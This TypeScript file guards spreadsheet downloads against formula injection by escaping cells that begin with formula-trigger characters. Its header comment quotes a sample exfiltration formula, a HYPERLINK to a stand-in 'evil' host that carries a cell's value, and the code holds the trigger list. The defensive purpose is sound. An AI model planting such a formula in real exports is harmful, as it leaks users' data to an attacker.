// Results downloads echo the customer's own cells back into a spreadsheet, and a cell such as
// =HYPERLINK("http://evil/?"&A1) or @SUM(...) would run when the file is opened (CSV) or edited
// (XLSX). The rule, for CSV and XLSX alike:
//   - text whose first character is = + - @ TAB or CR gets a leading apostrophe, which Excel and
//     LibreOffice show as plain text; this includes text that merely looks numeric ("-1.5") and
//     header names;
//   - values that are numbers in our own data (a probability, a count) are written as numbers:
//     they are produced by the service, never copied from the upload, and -1.5 is not a formula.

const TRIGGERS = new Set(['=', '+', '-', '@', '\t', '\r']);

export function neutralise(text: string): string {
  return text.length > 0 && TRIGGERS.has(text[0]!) ? `'${text}` : text;
}

/** A result value as the text a spreadsheet cell should show, before neutralising. */
export function valueText(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return value;
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '';
  if (typeof value === 'boolean' || typeof value === 'bigint') return String(value);
  if (value instanceof Date) return Number.isNaN(value.getTime()) ? '' : value.toISOString();
  return JSON.stringify(value, (_k, v: unknown) => (typeof v === 'bigint' ? String(v) : v)) ?? '';
}

/** Numbers the service produced stay numeric; everything else becomes guarded text. */
export function safeCell(value: unknown): number | string {
  if (typeof value === 'number' && Number.isFinite(value)) return value;
  return neutralise(valueText(value));
}
